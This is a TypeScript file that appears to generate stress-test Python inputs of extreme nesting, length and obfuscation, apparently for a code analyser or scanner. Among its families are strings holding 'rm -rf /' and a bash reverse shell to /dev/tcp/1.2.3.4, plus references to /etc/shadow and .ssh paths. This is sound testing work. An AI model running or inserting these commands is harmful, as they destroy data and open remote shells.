import { BROKEN } from "./broken.js";
import { after, base64, type Family, many, nested, packed, within } from "./make.js";

const indented: Family = (length) => {
  const lines: string[] = [];
  let used = 0;
  for (let depth = 0; used + depth + 8 < length; depth++) {
    lines.push(`${" ".repeat(depth)}if a:`);
    used += depth + 6;
  }
  return lines.join("\n");
};

const dents: Family = (length) => {
  const lines: string[] = [];
  let used = 0;
  for (let index = 0; used < length - 200; index++) {
    const line = `${" ".repeat((index * 7) % 90)}if a:`;
    lines.push(line);
    used += line.length + 1;
  }
  return lines.join("\n");
};

export const PYTHON: Readonly<Record<string, Family>> = {
  ...BROKEN,
  "nested (": nested("(", ")"),
  "nested [": nested("[", "]"),
  "nested {": nested("{", "}"),
  "nested {a:": nested("{1:", "}"),
  "nested calls": nested("f(", ")"),
  "nested os.system(": nested("os.system(", ")"),
  "nested eval(": nested("eval(", ")"),
  "nested exec('": nested("exec(", ")"),
  "nested getattr(": nested("getattr(", ",'a')"),
  "nested __import__(": nested("__import__(", ")"),
  "nested lambda": nested("(lambda a:", ")"),
  "nested comprehension": nested("[", " for a in a]"),
  "nested f-string": nested("f'{", "}'"),
  "nested subscript": nested("a[", "]"),
  "nested str.join": nested("''.join([", "])"),
  "nested replace": nested("a.replace(", ",'b')"),
  "nested not": within("", "not ", "a"),
  "nested unary": within("", "-", "a"),
  "nested indent": indented,
  "in and out": dents,
  "nested one-line if": within("", "if a: ", "b"),
  "nested ternary": within("", "a if a else ", "a"),
  "chained attributes": within("a", ".b"),
  "chained calls": within("a", "()"),
  "chained method calls": within("a", ".b()"),
  "chained os.system calls": within("import os\nos", ".system('a')"),
  "chained subscripts": within("a", "[0]"),
  "chained string subscripts": within("'a'", "[::-1]"),
  "chained replace": within("x='aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\nx", ".replace('a','aa')"),
  "chained decode": within("b''", ".decode()"),
  "chained comparison": within("a", "<a"),
  "long sum of names": within("a", "+a"),
  "long sum of texts": within("'a'", "+'a'"),
  "long sum in os.system": within("import os\nos.system('a'", "+'a'", ")"),
  "long sum with %": within("'%s'", "%'%s'"),
  "text times": within("'a'", "*9"),
  "side by side texts": within("", "'a' "),
  "side by side f-strings": within("x=1\n", "f'{x}' "),
  "long f-string": within("x='a'\nf'", "{x}", "'"),
  "long text": within("'", "a", "'"),
  "long escapes": within("'", "\\x61", "'"),
  "long octal escapes": within("'", "\\1", "'"),
  "long named escapes": within("'", "\\N{a}", "'"),
  "escapes that do not end": within("'", "\\N{", "'"),
  "long comment": within("#", "a"),
  comments: within("", "#\n"),
  "long name": within("", "a"),
  "long number": within("", "1"),
  "many names": many((i) => `a${i}\n`),
  "many lines": within("", "a\n"),
  "many assignments": many((i) => `a${i}=1\n`),
  "chain of names": many((i) => `a${i + 1}=a${i}\n`),
  "chain of names, called": after(
    "import os\na0=os.system\n",
    many((i) => `a${i + 1}=a${i}\n`),
  ),
  "chain of names backwards": many((i) => `a${i}=a${i + 1}\na${i}('x')\n`),
  "doubling texts": after(
    "a0='aaaaaaaa'\n",
    many((i) => `a${i + 1}=a${i}+a${i}\n`),
  ),
  "doubling texts from 24": (length) =>
    `a0='aaaaaaaa'\n${Array.from({ length: 24 }, (_, i) => `a${i + 1}=a${i}+a${i}\n`).join("")}${within("import os\n", "os.system(a23)\n")(length - 600)}`,
  "doubling binary from 24": (length) =>
    `a0=b\n${Array.from({ length: 24 }, (_, i) => `a${i + 1}=a${i}+a${i}\n`).join("")}${within("import os\n", "os.system(a22)\n")(length - 600)}`,
  "doubling words": (length) =>
    `a0=['a']\n${Array.from({ length: 24 }, (_, i) => `a${i + 1}=a${i}+a${i}\n`).join("")}${within("import subprocess\n", "subprocess.run(a22)\n")(length - 600)}`,
  "doubling paths": (length) =>
    `${Array.from({ length: 24 }, (_, i) => `a${i + 1}=getattr(a${i}(a${i}),a${i}(a${i}))\n`).join("")}${within("", "a24()\n")(length - 1000)}`,
  "doubling f-strings": many((i) => `a${i + 1}=f'{a${i}}{a${i}}'\n`),
  "doubling joins": many((i) => `a${i + 1}=''.join([a${i},a${i}])\n`),
  "doubling replaces": after(
    "a0='aa'\n",
    many((i) => `a${i + 1}=a${i}.replace('a','aa')\n`),
  ),
  "doubling formats": after(
    "a0='{}{}'\n",
    many((i) => `a${i + 1}=a${i}.format(a${i})\n`),
  ),
  "long text through functions": (length) =>
    `x='${"a".repeat(16000)}'\n${many((i) => `y${i}=x[::-1].replace('a','b').upper()\n`)(length - 16100)}`,
  "long text, used often": (length) =>
    `x='${"a".repeat(Math.floor(length / 2))}'\n${within("import os\n", "os.system(x)\n")(Math.floor(length / 2) - 20)}`,
  "long text, reversed often": (length) =>
    `x='${"a".repeat(60000)}'\n${within("import os\n", "os.system(x[::-1])\n")(Math.max(0, length - 60020))}`,
  "long path, opened often": (length) =>
    `x='${"../".repeat(Math.floor(length / 6))}'\n${within("", "open(x)\n")(Math.floor(length / 2) - 20)}`,
  "different paths": many((i) => `open('/home/${i}/.ssh/../a')\n`),
  "many values of a name": many((i) => `a='${i}'\n`),
  "many values, concatenated": many((i) => `a='${i}'\nb=a+a+b\n`),
  "many += ": many((i) => `a+='${i}'\n`),
  "many += of itself": within("a='a'\n", "a+=a\n"),
  "many names of everything": many((i) => `a=b${i};b${i}=a\n`),
  "circle of names": within("", "a=b\nb=c\nc=a\n"),
  "circle of functions": many((i) => `def f${i}(x):\n return f${i + 1}(x)+f${i + 2}(x)\n`),
  "functions that call all": many((i) => `def f${i}(x):\n return f0(f${i}(x))+'a'\nf${i}('a')\n`),
  "functions with parameters": many((i) => `def f(a,b,c,d):\n return f(b,c,d,a)\nf('${i}','b','c','d')\n`),
  "same function, called often": within("def f(a):\n return a+a+f(a+'b')\n", "f('a')\n"),
  "many functions": many((i) => `def f${i}():pass\n`),
  "nested functions": (length) => {
    const lines: string[] = [];
    let used = 0;
    for (let i = 0; used < length - 500; i++) {
      const line = `${" ".repeat(i % 300)}def f${i}(a${i}):`;
      lines.push(line);
      used += line.length + 1;
    }
    return lines.join("\n");
  },
  "many returns": within("def f():\n", " return 'a'\n", "f()\n"),
  "many parameters": many((i) => `a${i}`, ","),
  "function with many parameters": (length) => `def f(${many((i) => `a${i}=1`, ",")(length - 20)}):pass\n`,
  "call with many arguments": within("f(", "a,", ")"),
  "os.system with many arguments": within("import os\nos.system(", "a,", ")"),
  "subprocess with many words": within("import subprocess\nsubprocess.run([", "'a',", "])"),
  "many classes": many((i) => `class A${i}(A${i - 1}):\n a=A${i}\n`),
  "classes with methods": many((i) => `class A${i}:\n def f(self):self.a=self.b;self.b=self.a\n`),
  "self attributes": many((i) => `self.a${i}=self.a${i + 1}\n`),
  "many imports": many((i) => `import a${i}\n`),
  "import of many": (length) => `import ${many((i) => `a${i}`, ",")(length - 10)}a`,
  "import of deep": within("import a", ".a"),
  "from import of many": (length) => `from os import ${many((i) => `a${i}`, ",")(length - 20)}a`,
  "star imports": within("", "from os import *\n"),
  "many os.system": many((i) => `os.system('a${i}')\n`),
  "import, many os.system": after(
    "import os\n",
    many((i) => `os.system('a${i}')\n`),
  ),
  "import, os.system of shells": after(
    "import os\n",
    many((i) => `os.system('sh -c "$(a${i})"')\n`),
  ),
  "import, os.system of python": after(
    "import os\n",
    many((i) => `os.system('python3 -c "import os;os.system(1)#${i}"')\n`),
  ),
  "many evals": many((i) => `eval('a${i}')\n`),
  "many exec of exec": many((i) => `exec("exec('a${i}')")\n`),
  "one eval of much": packed("eval('''", within("", "(1,"), (text) => text, "''')", 1),
  "one exec of broken": packed("exec('''", within("", "({["), (text) => text, "''')", 1),
  "many evals of much": (length) => many((i) => `eval('''${"(".repeat(900)}${i}''')\n`)(length),
  "os.system of much": packed("import os\nos.system('''", within("", "$(("), (text) => text, "''')", 1),
  "base64 of much": packed("import base64\nexec(base64.b64decode('", within("", "({["), base64, "'))", 1.34),
  "base64 layers": (length) => {
    let text = "a";
    for (;;) {
      const next = `exec(__import__('base64').b64decode('${base64(text)}'))`;
      if (next.length > length) return text;
      text = next;
    }
  },
  "handed on": within("import os\n", "os,"),
  "handed on in calls": within("import os\n", "f(os)\n"),
  "handed on deep": after("import os\n", nested("f(", ")", "os")),
  "handed on often, deep": (length) =>
    `import os\n${"(".repeat(Math.floor(length / 3))}${"os,".repeat(Math.floor(length / 6))}${")".repeat(Math.floor(length / 6))}`,
  "handed on in parentheses": (length) => many(() => `${"(".repeat(100)}os${")".repeat(100)}\n`)(length),
  "many identifiers of long": (length) => `import os\n${within("", "x.os.system\n")(length - 20)}`,
  "many chr": within("x=", "chr(97)+", "''"),
  "join of chr": within("''.join(chr(x) for x in [", "97,", "])"),
  "map chr": within("''.join(map(chr,[", "97,", "]))"),
  "comprehension over many": within("[a+a+a+a for a in [", "'a',", "]]"),
  "comprehensions over many": (length) =>
    `x=[${"'a',".repeat(1024)}]\n${within("", "[a+a+a+a for a in x]\n")(length - 5000)}`,
  "comprehensions of comprehensions": (length) =>
    `x=[${"'a',".repeat(1024)}]\n${within("", "[[b+a for b in x] for a in x]\n")(length - 5000)}`,
  "lists of lists": after(
    "a0=['a']\n",
    many((i) => `a${i + 1}=[a${i},a${i},a${i}]\n`),
  ),
  "dicts of dicts": after(
    "a0={'a':1}\n",
    many((i) => `a${i + 1}={'a':a${i},'b':a${i}}\na${i + 1}['a']['b']\n`),
  ),
  "long list": within("a=[", "1,", "]"),
  "long list, indexed": (length) => `a=[${"'a',".repeat(1024)}]\n${within("", "a[3]\n")(length - 5000)}`,
  "long dict": many((i) => `'a${i}':1`, ","),
  "long dict, read": (length) =>
    `a={${many((i) => `'a${i}':1`, ",")(9000)}}\n${within("", "a['a7']\n")(length - 9100)}`,
  loops: within("", "while True:\n a=1\n"),
  "nested loops": (length) => {
    const lines: string[] = [];
    let used = 0;
    for (let i = 0; used < length - 500; i++) {
      const line = `${" ".repeat(i % 400)}while True:`;
      lines.push(line);
      used += line.length + 1;
    }
    return lines.join("\n");
  },
  "for loops": many((i) => `for a${i} in a${i + 1}:a${i}\n`),
  with: many((i) => `with a${i} as a${i + 1}:pass\n`),
  try: within("", "try:\n a\nexcept A as b:\n c\n"),
  walrus: many((i) => `(a${i}:=a${i + 1})\n`),
  globals: many((i) => `global a${i}\n`),
  patterns: many((i) => `(a${i},(b${i},c))=d,e\n`),
  "nested pattern": nested("(", ",)", "a"),
  "nested pattern assigned": after("", nested("(", ",)", "a"), "=b"),
  "nested list pattern assigned": after("", nested("[", "]", "a"), "=b"),
  del: within("del a", ",a"),
  decorators: within("", "@a\n", "def f():pass"),
  match: within("match a:\n", " case [a,b]:\n  c\n"),
  "nested match": nested("[", "]", "a"),
  "chained assignment": within("", "a=", "1"),
  semicolons: within("a", ";a"),
  "backslash lines": within("a", "\\\n+a"),
  types: within("a:", "b[", ""),
  "print chevron": within("print >>a", ",a"),
  "open strings": within("", "'a\n"),
  "open f-strings": within("", "f'{a\n"),
  "open triple": many((i) => `"""a${i}\n`),
  unicode: within("", "é=ü\n"),
  astral: within("'", "\ud83d\ude00", "'"),
  "secret paths": within("", "'/etc/shadow'\n"),
  urls: many((i) => `'http://a${i}.example/'\n`),
  "telling texts": within("'", "rm -rf / ; bash -i >& /dev/tcp/1.2.3.4/5 0>&1 ", "'"),
  "almost telling texts": within("'", "rm -rf -rf -rf -rf ", "'"),
  spaces: within("'", " ", "'"),
  "many telling texts": many((i) => `x='bash -i >& /dev/tcp/1.2.3.4/${i}'\n`),
};
